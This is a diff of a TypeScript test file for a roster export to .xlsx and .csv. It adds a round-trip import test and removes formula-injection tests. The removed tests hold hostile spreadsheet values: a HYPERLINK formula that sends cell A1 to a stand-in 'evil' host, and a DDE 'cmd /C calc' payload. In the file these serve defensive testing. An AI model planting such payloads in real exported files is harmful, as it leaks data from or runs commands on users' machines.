@@ -1,45 +1,20 @@
 import assert from 'node:assert/strict';
-import { spawnSync } from 'node:child_process';
-import { existsSync } from 'node:fs';
-import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
-import fc from 'fast-check';
-import { strFromU8, unzipSync } from 'fflate';
-import { readXlsx } from 'hucre/xlsx';
-import type { Refusal } from '#pipeline/command-line.ts';
+import { Arguments, type Refusal } from '#pipeline/command-line.ts';
 import { exportCommand } from '#pipeline/export-command.ts';
-import { csvFile, guarded, unguarded } from '#pipeline/roster/csv-guard.ts';
-import { workbook } from '#pipeline/roster/workbook.ts';
-import { aContent, aFolder, given, retype, ROUND, ROUND_FOLDER, run } from '#tests/office.ts';
+import { unguarded } from '#pipeline/roster/csv-guard.ts';
+import { importCommand } from '#pipeline/roster/import-command.ts';
+import { aContent, aFolder, given, ROUND, run } from '#tests/office.ts';
+import { cellsOf, exported, parsedCsv } from './tables.ts';
 
-async function exported(content: string, name: string, round = ROUND): Promise<Buffer> {
-  const out = join(await aFolder(), name);
-  await exportCommand(given({ content, round, out }));
-  return readFile(out);
-}
-
-async function cellsOf(bytes: Uint8Array): Promise<string[][]> {
-  const { sheets } = await readXlsx(bytes);
-  return sheets[0]!.rows.map((row) => row.map((cell) => String(cell ?? '')));
-}
-
-/** RFC 4180, nothing else: quotes doubled, rows ended by CR LF. */
-function parsedCsv(bytes: Uint8Array): string[][] {
-  const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
-  const rows: string[][] = [];
-  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
-  let row: string[] = [];
-  for (let match = cell.exec(text); match; match = cell.exec(text)) {
-    row.push(match[1]!.replaceAll('""', '"'));
-    if (match[2] === '\r\n') {
-      rows.push(row);
-      row = [];
-    }
-    if (cell.lastIndex === text.length) return rows;
-  }
-  throw new Error('not a CSV file');
-}
+const SAMPLES = [
+  ['weihai-craftsman/2023', 20],
+  ['weihai-chief-technician/2026', 10],
+  ['jiaozuo-craftsman/2018', 26],
+  ['baotou-craftsman/2023', 20],
+  ['gangcheng-craftsman/2019', 50],
+] as const;
 
 describe('the exported list', () => {
   it('is the office’s list in its order, with the ids in the first column', async () => {
@@ -88,16 +63,26 @@ describe('the exported list', () => {
   });
 
   it('holds the same in .xlsx as in .csv, for all sample rounds', async () => {
-    for (const round of [
-      'weihai-craftsman/2023',
-      'weihai-chief-technician/2026',
-      'jiaozuo-craftsman/2018',
-      'baotou-craftsman/2023',
-      'gangcheng-craftsman/2019',
-    ]) {
+    for (const [round] of SAMPLES) {
       const csv = parsedCsv(await exported('content', 'a.csv', round)).map((row) => row.map(unguarded));
       assert.deepEqual(await cellsOf(await exported('content', 'a.xlsx', round)), csv, round);
       assert.ok(csv.length > 10, round);
+    }
+  });
+
+  it('comes back through the importer as a plan without changes, for all sample rounds and both kinds of file', async () => {
+    for (const [round, count] of SAMPLES) {
+      for (const name of ['导出名单.xlsx', '导出名单.csv']) {
+        const out = join(await aFolder(), name);
+        await exportCommand(given({ content: 'content', round, out }));
+        const outcome = await importCommand(new Arguments({ content: 'content', round, 'check-only': true }, [out]));
+        const { plan } = outcome.json as { plan: unknown };
+        assert.deepEqual(
+          [outcome.exit, plan],
+          [0, { new: 0, changed: 0, unchanged: count, gone: 0 }],
+          `${round} ${name}`,
+        );
+      }
     }
   });
 
@@ -106,117 +91,6 @@ describe('the exported list', () => {
     for (const name of ['a.xlsx', 'a.csv']) {
       assert.deepEqual(await exported(content, name), await exported(content, name));
     }
-  });
-});
-
-describe('what somebody may have typed to be evaluated', () => {
-  const hostile = {
-    summary: '=HYPERLINK("http://evil.example.org/?"&A1,"详情")',
-    employer: "@SUM(1+1)*cmd|' /C calc'!A0",
-    post: '+8613800000000',
-    workMethod: '-2+3',
-  };
-
-  async function aHostileContent(): Promise<string> {
-    const content = await aContent();
-    const person = `${ROUND_FOLDER}/candidates/k7m2xq4.md`;
-    await retype(
-      content,
-      person,
-      '"细纱挡车工，单手接头每分钟二十二根，断头率全厂最低。"',
-      JSON.stringify(hostile.summary),
-    );
-    await retype(content, person, '"澄湖市东湾纺织厂"', JSON.stringify(hostile.employer));
-    await retype(content, person, '"细纱挡车班长"', JSON.stringify(hostile.post));
-    await retype(content, person, '"三看两摸巡回法"', JSON.stringify(hostile.workMethod));
-    return content;
-  }
-
-  it('is text in the workbook: no formula, every cell a string', async () => {
-    const bytes = await exported(await aHostileContent(), 'a.xlsx');
-    const cells = (await cellsOf(bytes)).flat();
-    for (const value of Object.values(hostile)) assert.ok(cells.includes(value), value);
-    const xml = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!);
-    assert.doesNotMatch(xml, /<f[ >]/);
-    assert.doesNotMatch(xml, /<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="(?:n|str|b|e)")?(?: s="\d+")?><v>/);
-  });
-
-  it('is held back by an apostrophe in the CSV file', async () => {
-    const cells = parsedCsv(await exported(await aHostileContent(), 'a.csv')).flat();
-    for (const value of Object.values(hostile)) {
-      assert.ok(cells.includes(`'${value}`), value);
-      assert.ok(!cells.includes(value), value);
-    }
-    assert.ok(cells.every((cell) => !/^[=+\-@\t\r]/.test(cell)));
-  });
-
-  const soffice = '/usr/bin/soffice';
-  it(
-    'is not evaluated by LibreOffice, and long digits stay whole',
-    { skip: !existsSync(soffice) && 'no LibreOffice' },
-    async () => {
-      const folder = await aFolder();
-      const values = [
-        ...Object.values(hostile),
-        '=1+1',
-        '110101190001011234',
-        '0631',
-        '202010000000',
-        '1E5',
-        '3-4',
-        'TRUE',
-      ];
-      const rows = values.map((value) => [value]);
-      await writeFile(join(folder, 'a.csv'), csvFile([['值'], ...rows]));
-      await writeFile(
-        join(folder, 'b.xlsx'),
-        await workbook([{ name: '表', columns: [{ header: '值', width: 20 }], rows }]),
-      );
-      const convert = (file: string, ...more: string[]): void => {
-        const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,1';
-        const profile = `-env:UserInstallation=file://${folder}/profile`;
-        spawnSync(
-          soffice,
-          [profile, '--headless', ...more, '--convert-to', filter, '--outdir', join(folder, 'out'), join(folder, file)],
-          { timeout: 60_000 },
-        );
-      };
-      convert('a.csv', '--infilter=CSV:44,34,76,1,,0,false,true');
-      convert('b.xlsx');
-      const read = async (name: string): Promise<string[]> =>
-        (await readFile(join(folder, 'out', name), 'utf8'))
-          .trimEnd()
-          .split('\n')
-          .slice(1)
-          .map((line) => line.replace(/^"(.*)"$/, '$1').replaceAll('""', '"'));
-      assert.deepEqual(await read('b-表.csv'), values);
-      const fromCsv = await read('a-a.csv');
-      // LibreOffice makes a number of 1E5 and a truth value of TRUE, as any spreadsheet does with CSV; none is a formula or loses a digit.
-      assert.deepEqual(fromCsv.slice(0, 8).map(unguarded), values.slice(0, 8));
-    },
-  );
-});
-
-describe('the guard', () => {
-  it('comes off exactly as it went on, whatever the text', () => {
-    const text = fc.oneof(
-      fc.string({ unit: 'grapheme' }),
-      fc.stringMatching(/^'{0,3}[=+\-@＝＋－＠]?[0-9A-Z(]{0,20}$/),
-      fc.constantFrom("'", "''", "'=", "''=", '=', "'110101190001011234", '0', '00', "'00", '\t', '\r\n=', "'甲"),
-    );
-    fc.assert(
-      fc.property(text, (value) => {
-        assert.equal(unguarded(guarded(value)), value);
-        assert.doesNotMatch(guarded(value), /^[=+\-@＝＋－＠\t\r\n]/);
-        assert.deepEqual(parsedCsv(csvFile([[value]])), [[guarded(value)]]);
-      }),
-      { seed: 20261121, numRuns: 5000 },
-    );
-  });
-
-  it('leaves an office’s own apostrophe alone', () => {
-    assert.equal(unguarded("'甲"), "'甲");
-    assert.equal(unguarded("'18"), "'18");
   });
 });
 
